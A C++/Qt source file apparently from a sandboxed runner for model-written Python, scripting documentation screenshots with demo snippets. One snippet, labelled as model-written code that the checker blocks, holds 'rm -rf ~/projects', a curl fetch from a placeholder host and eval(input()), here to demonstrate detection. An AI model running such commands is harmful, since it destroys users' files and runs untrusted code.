#include "screenshotter.h"

#include <QApplication>
#include <QDir>
#include <QDockWidget>
#include <QPixmap>
#include <QTableView>
#include <QListWidget>
#include <QPushButton>
#include <QTimer>

#include "codeeditor.h"
#include "editortabs.h"
#include "historypanel.h"
#include "limitspanel.h"
#include "runcompare.h"
#include "policypanel.h"
#include "policyrulemodel.h"
#include "livechecker.h"
#include "mainwindow.h"
#include "runcontroller.h"
#include "sessiontabs.h"

namespace agentrun::ui {

namespace {

const char* const RunSnippet = R"(# Allocate a table, summarise it, and show progress like a notebook would.
import time

rows = [(i, i * i % 97) for i in range(400_000)]
block = bytearray(40 * 1024 * 1024)
block[::4096] = b"x" * len(block[::4096])
for step in range(0, 101, 20):
    print(f"\rprocessing {step:3d}%", end="", flush=True)
    time.sleep(0.3)
print()
total = sum(v for _, v in rows)
print("\x1b[32mrows:\x1b[0m", len(rows), " \x1b[32msum:\x1b[0m", total)
)";

const char* const BlockedSnippet = R"(# Code a model wrote: the check stops it before any container starts.
import os
import subprocess

print("cleaning up…")
os.system("rm -rf ~/projects")
subprocess.run(["curl", "http://example.com/x.sh"])
data = eval(input())
)";

const char* const SessionSnippet = R"(# %% load: one run per cell, in one session
rows = [(city, temp) for city, temp in [("Oslo", 4.5), ("Lima", 19.0), ("Pune", 31.2), ("Kyiv", 7.8)]]
cities = [city for city, _ in rows]
# %% transform: the session still has rows
warm = sorted((temp, city) for city, temp in rows if temp > 5)
mean = sum(temp for _, temp in rows) / len(rows)
# %% show
for temp, city in warm:
    print(f"{city:>5} {temp:5.1f}")
print(f"mean {mean:.2f} over {len(cities)} cities")
)";

// The user guide's walk-through (docs/user-guide.md, "A session with a CSV file and a chart"): needs an
// image with pandas and matplotlib (AGENTRUN_IMAGE=agentrun-sandbox:datascience); without one its
// screenshot shows the ModuleNotFoundError.
const char* const ChartSnippet = R"(# %% load the CSV
import io
import pandas as pd
sales = pd.read_csv(io.StringIO("month,sales\nJan,120\nFeb,135\nMar,160\nApr,150\nMay,190\n"))
print(sales.shape, "rows x columns")
# %% look at it
print(sales.describe().loc[["mean", "max"]])
# %% chart it
import matplotlib.pyplot as plt
sales.plot(x="month", y="sales", kind="bar", legend=False, figsize=(5, 3))
plt.title("Sales by month")
plt.tight_layout()
plt.show()
print("growth:", round(sales.sales.iloc[-1] / sales.sales.iloc[0] - 1, 2))
)";

// Runs out of memory at 64 MiB in well under a second: the outcome, the marked field, the short-run
// summary and the memory suggestion.
const char* const OomSnippet = R"(# Keeps every block: more than the 64 MiB this run may use.
blocks = []
for i in range(64):
    blocks.append(bytearray(8 << 20))
    print(f"{(i + 1) * 8} MiB held")
)";

const char* const TracebackSnippet = R"(# The traceback's lines are links back into this editor.
def mean(values):
    return sum(values) / len(values)


def report(groups):
    for name, values in groups.items():
        print(f"{name}: {mean(values):.2f}")


report({"north": [3, 4, 5], "south": []})
)";

} // namespace

void Screenshotter::start(MainWindow& window, const QString& directory)
{
    auto* shooter = new Screenshotter(window, directory);
    shooter->later(500, [shooter] { shooter->runStep(); });
}

Screenshotter::Screenshotter(MainWindow& window, QString directory)
    : QObject(&window), m_window(window), m_directory(std::move(directory))
{
    QDir().mkpath(m_directory);
    m_window.resize(1400, 880);
}

void Screenshotter::later(int ms, std::function<void()> next)
{
    QTimer::singleShot(ms, this, std::move(next));
}

void Screenshotter::save(const QString& name)
{
    const QString path = QDir(m_directory).filePath(name);
    if (!m_window.grab().save(path))
        qWarning("could not write %s", qPrintable(path));
    else
        qInfo("wrote %s", qPrintable(path));
}

void Screenshotter::runStep()
{
    m_window.editorTabs()->currentEditor()->setText(QString::fromUtf8(RunSnippet));
    raiseDock(QStringLiteral("resourcesDock"));
    auto connection = std::make_shared<QMetaObject::Connection>();
    *connection = connect(m_window.runController(), &RunController::finished, this, [this, connection] {
        disconnect(*connection);
        later(600, [this] {
            save(QStringLiteral("workbench-run.png"));
            overviewStep();
        });
    });
    m_window.runCurrent();
}

void Screenshotter::overviewStep()
{
    raiseDock(QStringLiteral("historyDock"));
    m_window.historyPanel()->selectRow(0);
    later(400, [this] {
        save(QStringLiteral("workbench.png"));
        blockedStep();
    });
}

void Screenshotter::blockedStep()
{
    CodeEditor* editor = m_window.editorTabs()->newTab(QStringLiteral("from_chat.py"));
    raiseDock(QStringLiteral("findingsDock"));
    auto connection = std::make_shared<QMetaObject::Connection>();
    *connection =
        connect(m_window.liveChecker(), &LiveChecker::reportReady, this, [this, connection, editor] {
            disconnect(*connection);
            editor->setCursorPosition(5, 4);
            later(400, [this] {
                save(QStringLiteral("workbench-blocked.png"));
                limitsStep();
            });
        });
    editor->setText(QString::fromUtf8(BlockedSnippet));
}

void Screenshotter::limitsStep()
{
    raiseDock(QStringLiteral("limitsDock"));
    later(400, [this] {
        save(QStringLiteral("workbench-limits.png"));
        policyStep();
    });
}

void Screenshotter::policyStep()
{
    raiseDock(QStringLiteral("policyDock"));
    PolicyPanel* panel = m_window.policyPanel();
    const int row = panel->ruleModel()->rowOf(QStringLiteral("process-exec"));
    if (auto* view = panel->findChild<QTableView*>(QStringLiteral("policyRuleView")); view && row >= 0)
        view->setCurrentIndex(panel->ruleModel()->index(row, 0));
    later(400, [this] {
        save(QStringLiteral("workbench-policy.png"));
        sessionStep();
    });
}

void Screenshotter::sessionStep()
{
    CodeEditor* editor = m_window.editorTabs()->newTab(QStringLiteral("analysis.py"));
    editor->setText(QString::fromUtf8(SessionSnippet));
    editor->setCursorPosition(0, 0);
    m_window.sessionTabs()->setInSession(editor, true);
    raiseDock(QStringLiteral("variablesDock"));
    raiseDock(QStringLiteral("resourcesDock"));
    runCells(3, QStringLiteral("workbench-session.png"), [this] { chartStep(); });
}

void Screenshotter::chartStep()
{
    CodeEditor* editor = m_window.editorTabs()->newTab(QStringLiteral("sales.py"));
    editor->setText(QString::fromUtf8(ChartSnippet));
    editor->setCursorPosition(0, 0);
    m_window.sessionTabs()->setInSession(editor, true);
    raiseDock(QStringLiteral("figuresDock"));
    runCells(
        3, QStringLiteral("workbench-session-chart.png"), [this] { outcomeStep(); },
        [this] {
            if (auto* list = m_window.findChild<QListWidget*>(QStringLiteral("figuresList"));
                list && list->count())
                list->setCurrentRow(0); // the chart in the panel's view, beside the output
        });
}

void Screenshotter::runSnippet(const QString& title, const QString& code, std::function<void()> next)
{
    CodeEditor* editor = m_window.editorTabs()->newTab(title);
    editor->setText(code);
    auto connection = std::make_shared<QMetaObject::Connection>();
    *connection = connect(m_window.runController(), &RunController::finished, this, [this, connection, next] {
        disconnect(*connection);
        later(800, next);
    });
    m_window.runCurrent();
}

void Screenshotter::outcomeStep()
{
    if (auto limits = m_window.limitsPanel()->limits()) {
        limits->memoryBytes = 64ll << 20;
        limits->memorySwapBytes = 64ll << 20;
        limits->tmpfsBytes = 16ll << 20;
        m_window.limitsPanel()->setLimits(*limits);
    }
    raiseDock(QStringLiteral("outputDock"));
    raiseDock(QStringLiteral("resourcesDock"));
    runSnippet(QStringLiteral("hungry.py"), QString::fromUtf8(OomSnippet), [this] {
        save(QStringLiteral("workbench-outcome.png"));
        suggestionStep();
    });
}

void Screenshotter::raiseDock(const QString& name)
{
    if (auto* dock = m_window.findChild<QDockWidget*>(name)) {
        dock->raise();
    }
}

void Screenshotter::suggestionStep()
{
    // The Resources panel: the short run's summary (peak against the limit, CPU time against wall time)
    // and the suggestion, applied, with its Undo.
    raiseDock(QStringLiteral("resourcesDock"));
    if (auto* apply = m_window.findChild<QPushButton*>(QStringLiteral("applySuggestionButton")))
        apply->click();
    later(400, [this] {
        save(QStringLiteral("workbench-suggestion.png"));
        tracebackStep();
    });
}

void Screenshotter::tracebackStep()
{
    raiseDock(QStringLiteral("outputDock"));
    runSnippet(QStringLiteral("report.py"), QString::fromUtf8(TracebackSnippet), [this] {
        save(QStringLiteral("workbench-traceback.png"));
        compareStep();
    });
}

void Screenshotter::compareStep()
{
    // The out-of-memory run and the one after its suggestion would differ most; the newest two runs are
    // the traceback and the out-of-memory one: their limits, usage, outcome and output side by side.
    raiseDock(QStringLiteral("historyDock"));
    HistoryPanel* history = m_window.historyPanel();
    history->refresh();
    history->selectRows({0, 1});
    RunCompare* compare = history->compareSelected();
    if (!compare) {
        QApplication::quit();
        return;
    }
    compare->resize(1000, 640);
    compare->show();
    later(600, [this, compare] {
        const QString path = QDir(m_directory).filePath(QStringLiteral("workbench-compare.png"));
        if (!compare->grab().save(path))
            qWarning("could not write %s", qPrintable(path));
        else
            qInfo("wrote %s", qPrintable(path));
        QApplication::quit();
    });
}

void Screenshotter::runCells(int left, const QString& shot, std::function<void()> next,
                             std::function<void()> beforeShot)
{
    if (left == 0) {
        if (beforeShot)
            beforeShot();
        later(600, [this, shot, next] {
            save(shot);
            next();
        });
        return;
    }
    auto connection = std::make_shared<QMetaObject::Connection>();
    *connection = connect(
        m_window.runController(), &RunController::finished, this,
        [this, connection, left, shot, next, beforeShot] {
            disconnect(*connection);
            later(200, [this, left, shot, next, beforeShot] { runCells(left - 1, shot, next, beforeShot); });
        });
    m_window.runCell(true);
}

} // namespace agentrun::ui
